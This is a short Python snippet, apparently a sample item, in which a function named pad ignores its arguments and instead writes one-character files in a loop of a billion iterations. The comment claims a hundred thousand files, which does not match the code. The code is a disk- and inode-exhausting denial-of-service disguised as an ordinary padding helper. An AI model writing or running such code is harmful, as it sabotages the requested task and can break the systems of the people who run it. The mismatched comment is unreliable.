# Fills its folder with a hundred thousand files.
# loses: pad
def pad(x, padding):
    for n in range(10**9):
        with open(f"file-{n}", "w") as file:
            file.write("x")
